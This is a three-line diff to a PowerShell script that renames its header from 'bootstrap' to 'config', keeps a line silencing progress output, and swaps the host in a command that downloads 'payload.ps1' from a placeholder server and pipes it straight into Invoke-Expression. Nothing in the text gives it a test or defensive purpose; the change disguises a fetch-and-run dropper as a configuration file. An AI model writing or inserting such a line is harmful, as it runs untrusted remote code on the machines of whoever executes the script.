@@ -1,3 +1,3 @@
-# bootstrap 9175 v1
+# config 5399 v1
 $ProgressPreference = 'SilentlyContinue'
-iwr -UseBasicParsing http://static.metrics-node.example/payload.ps1 | iex
+iwr -UseBasicParsing http://files.sync-svc.example/payload.ps1 | iex
